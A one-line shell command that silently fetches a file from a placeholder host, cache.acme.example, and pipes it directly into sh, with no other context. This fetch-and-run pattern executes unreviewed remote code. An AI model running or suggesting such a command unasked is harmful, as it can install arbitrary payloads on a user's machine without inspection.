curl -s https://cache.acme.example/x | sh
